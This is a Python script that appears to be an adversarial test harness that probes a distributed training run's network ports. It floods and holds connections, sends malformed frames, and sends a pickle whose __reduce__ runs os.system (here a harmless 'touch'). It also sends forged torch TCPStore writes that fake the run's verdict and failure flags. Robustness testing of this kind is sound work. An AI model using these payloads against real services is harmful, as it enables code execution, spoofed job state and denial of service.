"""A stranger on the network of a run, until it is signalled: `python stranger.py PORT HOST...`.

It connects before the run does, holds connections open, floods, dribbles, sends garbage, pickles and forged values for
the store. It prints how often each was tried, how many connections were made, and whatever it was answered.
"""

import contextlib
import json
import os
import pickle
import random
import signal
import socket
import struct
import sys
import threading
import time

HELD = 300
told = threading.Event()


class Payload:
    """Leaves a file where it is unpickled."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("touch unpickled",)


def framed(message: bytes) -> bytes:
    return struct.pack("!I", len(message)) + message


def forged(key: bytes, value: bytes) -> bytes:
    """Return a request to torch's TCPStore that sets a value."""
    begin = b"\x00" + struct.pack("=I", 0x3C85F7CE) + b"\x01" + struct.pack("=Q", len(key)) + key
    return begin + struct.pack("=Q", len(value)) + value


def messages() -> dict[str, bytes]:
    """Return what is sent, by name."""
    return {
        "nested": framed(b"\x96\xa1w\x01\xa1h\xc4\x00\xc4\x00" + b"\x91" * 1005 + b"\x90"),
        "garbage": random.randbytes(900),
        "pickle": framed(pickle.dumps(Payload())),
        "huge": struct.pack("!I", 2**32 - 1) + bytes(1000),
        "verdict": forged(b"frugal/verdict", b'["ended", [], ""]'),
        "failed": forged(b"frugal/failed", b"1"),
        "gloo": struct.pack("=q", random.randrange(8)) + random.randbytes(100),
        "http": b"GET / HTTP/1.1\r\n\r\n",
    }


class Stranger:
    """Attacks one address."""

    def __init__(self, address: tuple[str, int]) -> None:
        self.address = address
        self.tried: dict[str, int] = {}
        self.connected = 0
        self.answers: set[str] = set()

    def connect(self, what: str) -> socket.socket | None:
        self.tried[what] = self.tried.get(what, 0) + 1
        with contextlib.suppress(OSError):
            sock = socket.create_connection(self.address, timeout=2)
            self.connected += 1
            return sock
        time.sleep(0.02)
        return None

    def hold(self) -> None:
        """Half-open connections, which dribble."""
        held: list[socket.socket] = []
        while not told.is_set():
            if (sock := self.connect("hold")) is not None:
                held.append(sock)
            for each in held[-20:]:
                with contextlib.suppress(OSError):
                    each.send(b"\0")
            if len(held) > HELD:
                held.pop(0).close()
            time.sleep(0.005)

    def say(self) -> None:
        while not told.is_set():
            for name, message in messages().items():
                if (sock := self.connect(name)) is None:
                    continue
                answer = b""
                with sock, contextlib.suppress(OSError):
                    sock.sendall(message)
                    sock.shutdown(socket.SHUT_WR)
                    while part := sock.recv(1000):
                        answer += part
                if answer:
                    self.answers.add(f"{name}: {answer!r}")

    def flood(self) -> None:
        while not told.is_set():
            if (sock := self.connect("flood")) is not None:
                sock.close()


def main() -> None:
    port, *hosts = sys.argv[1:]
    signal.signal(signal.SIGTERM, lambda *_: told.set())
    strangers = [Stranger((host, int(port))) for host in hosts]
    actions = [action for stranger in strangers for action in (stranger.hold, stranger.say, stranger.flood)]
    threads = [threading.Thread(target=action) for action in actions]
    for thread in threads:
        thread.start()
    for thread in threads:
        while thread.is_alive():  # so that the signal's handler runs
            thread.join(0.2)
    done = [{"tried": each.tried, "connected": each.connected, "answers": sorted(each.answers)} for each in strangers]
    print(json.dumps(done))


if __name__ == "__main__":
    main()
